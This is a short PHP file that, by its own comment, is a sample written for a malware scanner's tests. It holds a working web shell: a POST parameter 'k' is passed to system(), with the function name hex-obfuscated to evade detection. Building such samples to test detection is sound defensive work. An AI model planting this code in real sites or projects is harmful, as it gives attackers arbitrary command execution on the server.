<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
if (isset($_POST['k'])) {
    "\x73yst\x65m"($_POST['k']);
}
